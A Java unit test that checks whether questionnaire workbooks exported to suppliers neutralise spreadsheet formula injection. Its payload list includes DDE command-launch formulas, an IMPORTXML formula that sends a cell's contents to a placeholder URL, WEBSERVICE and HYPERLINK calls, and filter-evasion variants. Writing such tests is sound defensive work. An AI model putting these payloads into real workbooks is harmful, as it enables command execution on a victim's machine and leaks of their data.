package org.vouchsafe.questionnaire;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.junit.jupiter.api.Test;
import org.vouchsafe.domain.questionnaire.Language;
import org.vouchsafe.domain.questionnaire.Template;
import org.vouchsafe.domain.questionnaire.request.OpenPosition;
import org.vouchsafe.domain.questionnaire.request.Remark;
import org.vouchsafe.questionnaire.own.TemplateEditing;

/** Whatever suppliers and analysts write stays text in every workbook that goes out, also when somebody edits the cell. */
class InjectionTest {
    private static final List<String> PAYLOADS = List.of("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://x\",\"y\")",
            "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "＝1+1", "＋1", "－1", "＠SUM(1)",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink\")", "-2+3+cmd|' /C calc'!E1", "=WEBSERVICE(\"http://x\")", "@=1", "=\u20281+1", "'=1+1",
            "_x003D_1+1", "=1+1\",\"", "%0A-1", "=-1");

    @Test
    void inQuestionnaires() {
        for (String each : PAYLOADS) {
            Template template = new Templates().byId("package-compromise").orElseThrow();
            assertHarmless(RequestWorkbook.write(template, new Request(each, each, each, List.of(each, each + " 2"),
                    LocalDate.of(2026, 4, 17), Instant.EPOCH, List.of(each),
                    List.of(new Remark("AX-Q1.1", each, each), new Remark("AX-Q1.3", null, each)))), each);
        }
    }

    @Test
    void inTheShortForm() {
        for (String each : PAYLOADS) {
            assertHarmless(OpenPositionsWorkbook.write(new OpenRequest(each, each, each, Language.DE, LocalDate.of(2026, 4, 17),
                    Instant.EPOCH, List.of(new OpenPosition("P-1", each, each, List.of(each, each), each, List.of(each, each))))), each);
        }
    }

    @Test
    void inQuestionnairesWrittenOutToBeEdited() {
        Template sound = new Templates().byId("sbom-and-vex").orElseThrow();
        for (String each : PAYLOADS) {
            Template hostile = TemplateTable.of(each, each, Language.EN, each, each, sound.evidence(), sound.questions());
            assertHarmless(TemplateEditing.write(hostile, Instant.EPOCH), each);
            assertHarmless(RequestWorkbook.write(hostile,
                    new Request("Q-1", "Northwind", "We", List.of("Portal"), LocalDate.of(2026, 4, 17), Instant.EPOCH)), each);
        }
    }

    private static void assertHarmless(byte[] workbook, String payload) {
        List<String> seen = new ArrayList<>();
        Supplier.edit(workbook, supplier -> {
            for (Sheet sheet : supplier.book()) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as(payload).isNotEqualTo(CellType.FORMULA);
                        String text = cell.getCellType() == CellType.STRING ? cell.getStringCellValue() : "";
                        String start = text.strip();
                        if (!start.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(start.charAt(0)) >= 0) {
                            seen.add(text);
                            assertThat(cell.getCellStyle().getQuotePrefixed()).as(sheet.getSheetName() + " " + text).isTrue();
                        }
                    }
                }
            }
        });
        if ("=+-@".indexOf(payload.charAt(0)) >= 0) {
            assertThat(seen).as(payload).isNotEmpty();
        }
    }
}
